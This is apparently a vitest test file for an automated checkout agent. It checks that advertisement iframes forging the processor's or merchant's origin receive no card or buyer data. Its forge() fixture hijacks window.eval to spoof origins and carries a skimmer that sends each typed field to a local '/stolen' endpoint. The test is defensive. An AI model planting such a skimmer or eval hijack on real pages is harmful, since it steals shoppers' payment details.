/** Frames that forge their origin: a forged origin gives access to no card or buyer data. */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, beforeEach, expect, it } from "vitest";
import { openWorkerFixture, type WorkerFixture } from "./checkout-fixture.ts";

const CARD = `<label>Card number <input name="number" autocomplete="cc-number"></label>
  <label>Expiry (MM/YY) <input name="exp" autocomplete="cc-exp"></label>
  <label>Security code <input name="cvc" autocomplete="cc-csc"></label>`;
const BUYER = `<label>Email <input name="email" autocomplete="email"></label>`;
/** Playwright evaluates through the page's own `eval`, so the page can replace every result. */
const forge = (claim: string) => `
  const real = window.eval;
  const forged = (value) => {
    if (value?.view) value.view.url = "${claim}/fields";
    if (value === location.origin) return "${claim}";
    // For the element that contains a frame, the frame itself is returned.
    return value === document.documentElement ? document.querySelector("iframe") : value;
  };
  window.eval = (source) => {
    const result = real(source);
    return typeof result === "function" ? (...parameters) => forged(result(...parameters)) : forged(result);
  };
  addEventListener("input", ({ target }) => fetch("/stolen?" + target.name + "=" + encodeURIComponent(target.value)));`;

const NONSENSE = `
  const real = window.eval;
  window.eval = (source) => {
    const result = real(source);
    return typeof result === "function" ? result : { view: { fields: 7, totals: [{}] }, elements: [] };
  };`;

let fixture: WorkerFixture;
let server: Server;
let port = 0;
let frames = "";
let claim = "";
let leaked: string[] = [];
const createOrigin = (host: string) => `http://${host}:${port}`;
const createFrame = (address: string) => `<iframe src="${address}" width="400" height="160"></iframe>`;

beforeAll(async () => {
  fixture = await openWorkerFixture();
  server = createServer(({ url: path = "" }, response) => {
    if (path.startsWith("/stolen")) leaked.push(path);
    const pages: Record<string, string> = {
      "/cart": `<h1>Basket</h1><a href="/checkout">Checkout</a>`,
      "/checkout": `<h1>Checkout</h1><form method="post" action="/pay"><p>Total £28.90</p>${frames}<button>Pay now</button></form>`,
      "/pay": `<h1>Thank you for your order</h1><p>Order number: A-1001</p><p>Total £28.90</p>${createFrame(`${createOrigin("ad.localhost")}/nonsense`)}`,
      "/fields": CARD,
      "/nonsense": `<script>${NONSENSE}</script>`,
      "/ad": `${BUYER}${CARD}${createFrame(`${createOrigin("pay.localhost")}/empty`)}<script>${forge(claim)}</script>`,
    };
    response.setHeader("content-type", "text/html; charset=utf-8").end(`<!doctype html><body>${pages[path] ?? ""}`);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  ({ port } = server.address() as AddressInfo);
});
beforeEach(() => {
  leaked = [];
});
afterAll(() => {
  server?.close();
});

async function buy() {
  const definition = {
    ...{
      format: 1,
      basketUrl: null,
      checkoutOrigins: [createOrigin("127.0.0.1")],
      cardFrameOrigins: [createOrigin("pay.localhost")],
    },
    ...{ fields: {}, controls: {}, payPath: null },
  };
  const { result, calls } = await fixture.drive({
    ...{ store: createOrigin("127.0.0.1"), cartPath: "/cart", amountMinor: 2_890, currency: "GBP" },
    fulfillment: { type: "digital", title: "Sent by email", amountMinor: 0, pickupLocation: null },
    job: { recipe: { id: "rec_test", version: 1, definition } },
    timing: { appearMs: 1_500 },
  });
  return { cause: result.cause, calls, leaked };
}
const PAID = { cause: "confirmed", calls: ["card", "submitting"], leaked: [] };
const NOTHING = { cause: "missing_field", calls: [], leaked: [] };

it.each([
  ["the processor", "pay.localhost"],
  ["the merchant", "127.0.0.1"],
])("pays while an advertisement that claims to be %s receives neither card nor buyer data", async (_who, host) => {
  claim = createOrigin(host);
  frames = createFrame(`${createOrigin("ad.localhost")}/ad`) + createFrame(`${createOrigin("pay.localhost")}/fields`);
  expect(await buy()).toEqual(PAID);
});

it("gives a frame without its own origin no card", async () => {
  frames = `<iframe srcdoc='${CARD}' width="400" height="160"></iframe>`;
  expect(await buy()).toEqual(NOTHING);
});

it("completes a payment despite a frame that returns invalid data", async () => {
  frames =
    createFrame(`${createOrigin("ad.localhost")}/nonsense`) + createFrame(`${createOrigin("pay.localhost")}/fields`);
  expect(await buy()).toEqual(PAID);
});
